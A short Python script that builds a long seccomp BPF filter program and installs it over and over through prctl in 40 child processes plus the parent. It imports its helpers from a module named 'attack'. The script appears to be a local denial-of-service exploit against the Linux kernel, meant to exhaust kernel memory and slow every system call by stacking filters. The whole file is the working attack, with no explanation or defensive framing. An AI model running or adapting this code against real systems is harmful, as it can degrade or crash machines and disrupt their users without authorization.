import ctypes, struct, time
from attack import children, libc
code = struct.pack("HBBI", 0x20, 0, 0, 0) * 4000 + struct.pack("HBBI", 6, 0, 0, 0x7fff0000)
memory = ctypes.create_string_buffer(code)
program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(code) // 8, ctypes.addressof(memory)))
def nest(_):
    while libc.prctl(22, 2, program, 0, 0) == 0: pass
    time.sleep(1)
children(40, nest)
nest(0)
